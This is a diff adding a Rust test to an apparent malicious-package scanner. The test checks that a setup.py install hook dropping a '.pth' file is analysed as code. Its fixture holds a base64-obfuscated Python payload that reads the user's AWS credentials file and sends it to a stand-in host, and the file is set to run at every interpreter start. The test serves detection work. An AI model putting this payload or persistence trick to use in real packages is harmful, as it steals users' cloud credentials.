@@ -167,3 +167,26 @@ fn pip_install_at_load_is_network_at_load() {
         ("demo/__init__.py", "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'list', '--format=json'])\n", NET, None),
     ]);
 }
+
+/// A `.pth` written through a handle (`with open(P, 'w') as f: f.write(CODE)`) in an install
+/// hook: its text is analysed as the code it will run at every interpreter start (tester t21
+/// pthdrop: the handed `.pth` payload moved into `setup.py`). A path line written so is only
+/// the write.
+#[test]
+fn a_pth_written_through_a_handle_is_analysed_as_code() {
+    let setup = "import os, sysconfig\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n        with open(os.path.join(sysconfig.get_paths()['purelib'], 'zz-telemetry.pth'), 'w') as f:\n            f.write(\"import base64;exec(base64.b64decode('aW1wb3J0IG9zLHVybGxpYi5yZXF1ZXN0CmQ9b3Blbihvcy5wYXRoLmV4cGFuZHVzZXIoJ34vLmF3cy9jcmVkZW50aWFscycpKS5yZWFkKCkKdXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC91JyxkLmVuY29kZSgpKQo='))\\n\")\n\nsetup(name='x', version='1.0', cmdclass={'install': PostInstall})\n";
+    let r = scan("x-1.0/setup.py", setup);
+    assert_eq!(
+        worst(&r, "python-credential-stealer"),
+        Some(Severity::Critical),
+        "{:#?}",
+        summary(&r)
+    );
+    let path_line = setup.replace("import base64;exec(base64.b64decode('aW1wb3J0IG9zLHVybGxpYi5yZXF1ZXN0CmQ9b3Blbihvcy5wYXRoLmV4cGFuZHVzZXIoJ34vLmF3cy9jcmVkZW50aWFscycpKS5yZWFkKCkKdXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cHM6Ly9jLmV4YW1wbGUuaW52YWxpZC91JyxkLmVuY29kZSgpKQo='))", "/opt/x/lib");
+    let r = scan("x-1.0/setup.py", &path_line);
+    assert!(
+        r.worst().is_some_and(|w| w < Severity::High),
+        "{:#?}",
+        summary(&r)
+    );
+}
